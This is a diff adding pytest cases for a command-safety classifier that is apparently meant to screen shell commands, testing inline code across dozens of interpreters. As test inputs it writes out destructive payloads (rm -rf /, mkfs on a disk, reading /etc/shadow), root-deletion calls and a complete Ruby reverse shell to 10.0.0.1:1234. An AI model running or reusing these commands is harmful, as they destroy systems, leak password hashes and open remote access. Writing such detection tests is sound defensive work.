@@ -92,3 +92,69 @@ ORDINARY = [
 def test_ordinary_use_is_allowed(cmd):
     v = classify(cmd, home=HOME + "/.hermes")
     assert v.level == "allowed", (cmd, v)
+
+
+# Interpreters beyond the deeply modelled ones (python, perl, ruby, node, php, lua, R): a command-running
+# word in the code makes each of its strings (and each such call's strings, joined) a judged command.
+INLINE = [
+    "julia -e 'run(`{c}`)'", "guile -c '(system \"{c}\")'", "racket -e '(system \"{c}\")'",
+    "erl -noshell -eval 'os:cmd(\"{c}\"), halt().'", "groovy -e '\"{c}\".execute()'",
+    "osascript -e 'do shell script \"{c}\"'", "emacs --batch --eval '(shell-command \"{c}\")'",
+    "scala -e 'sys.process.Process(\"{c}\").!'", "kotlin -e 'Runtime.getRuntime().exec(\"{c}\")'",
+    "octave --eval 'system(\"{c}\")'", "ghc -e 'System.Process.callCommand \"{c}\"'", "crystal eval 'system(\"{c}\")'",
+    "swipl -g 'shell(\"{c}\")' -t halt", "luajit -e 'os.execute(\"{c}\")'", "ipython -c 'import os; os.system(\"{c}\")'",
+    "perl -Mfeature=say -e 'system(\"{c}\")'", "echo 'exec {c}' | tclsh", "wish <<< 'exec {c}'",
+    "jshell <<< 'Runtime.getRuntime().exec(\"{c}\")'", "nu -c '{c}'", "xonsh -c '{c}'", "elvish -c '{c}'",
+    "sqlite3 :memory: '.system {c}'", "sqlite3 app.db '.shell {c}'", "psql -c 'select 1; \\! {c}'", "mysql -e 'system {c}'",
+]
+INLINE_PAYLOADS = [("rm -rf /", "hardline"), ("mkfs.ext4 /dev/sda1", "hardline"), ("cat /etc/shadow", "dangerous")]
+
+
+@pytest.mark.parametrize("cmd,level", [pytest.param(t.format(c=p), lvl, id=f"{t[:30]} <- {p[:12]}")
+                                       for t in INLINE for p, lvl in INLINE_PAYLOADS])
+def test_inline_code_of_other_languages_is_judged(cmd, level):
+    assert classify(cmd, home=HOME + "/.hermes").level == level, cmd
+
+
+@pytest.mark.parametrize("cmd", [
+    "elixir -e 'System.cmd(\"rm\", [\"-rf\", \"/\"])'",  # argv as a list: the words are joined
+    "sbcl --eval '(sb-ext:run-program \"/bin/rm\" (list \"-rf\" \"/\"))'",
+    "julia -e 'rm(\"/\", recursive=true)'", "racket -e '(delete-directory/files \"/\")'",
+    "R -e 'unlink(\"/\", recursive=TRUE)'", "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'",  # -r's value is attached
+])
+def test_deleting_the_root_from_inline_code_is_refused(cmd):
+    v = classify(cmd, home=HOME + "/.hermes")
+    assert (v.level, v.rule) == ("hardline", "rm_root"), (cmd, v)
+
+
+@pytest.mark.parametrize("cmd", [
+    "julia -e 'println(1+1)'", "julia -e 'using Pkg; Pkg.add(\"DataFrames\")'", "julia -e 'run(`ls -la`)'",
+    "guile -c '(display \"hi\")'", "racket -e '(system \"ls\")'", "erl -noshell -eval 'io:format(\"hello~n\"), halt().'",
+    "elixir -e 'System.cmd(\"git\", [\"status\"])'", "groovy -e 'println \"hello\"'",
+    "osascript -e 'display notification \"Build done\" with title \"CI\"'", "osascript -e 'do shell script \"ls /tmp\"'",
+    "emacs --batch --eval '(shell-command \"make\")'", "scala -e 'println(\"hi\")'", "octave --eval 'disp(pi)'",
+    "ghc -e 'putStrLn \"hi\"'", "crystal eval 'puts 1+1'", "ruby -rjson -e 'puts JSON.generate({a: 1})'",
+    "perl -Mstrict -e 'print 1'", "echo 'puts hello' | tclsh", "nu -c 'ls | where size > 1kb'",
+    "R -e 'install.packages(\"dplyr\")'", "swipl -g 'writeln(hi)' -t halt", "clojure -M -e '(println 1)'", "bb -e '(+ 1 2)'",
+    "julia script.jl", "tclsh build.tcl", "osascript script.scpt", "sqlite3 app.db '.tables'", "psql -c 'select system_user'",
+    "mysql -e 'select * from system_log'",
+])
+def test_ordinary_inline_code_is_allowed(cmd):
+    v = classify(cmd, home=HOME + "/.hermes")
+    assert v.level == "allowed", (cmd, v)
+
+
+@pytest.mark.parametrize("cmd", [
+    "ruby -e'system(\"rm -rf /\")'", "perl -e'system(\"rm -rf /\")'", "perl -ne'system(\"rm -rf /\")'",
+    "python3 -c'import os; os.system(\"rm -rf /\")'", "bash -c'rm -rf /'",
+])
+def test_code_attached_to_its_flag_is_read(cmd):
+    assert classify(cmd, home=HOME + "/.hermes").level == "hardline", cmd
+
+
+def test_an_option_value_attached_to_its_letter_is_not_a_code_flag():
+    # -rsocket is "require socket"; the code is the next word, attached to its -e
+    v = classify("ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'")
+    assert v.level != "allowed", v
+    for ok in ("python3 -W ignore -c 'print(1)'", "perl -i.bak -pe 's/a/b/' f.txt", "perl -Mstrict -le 'print 1'"):
+        assert classify(ok).level == "allowed", ok
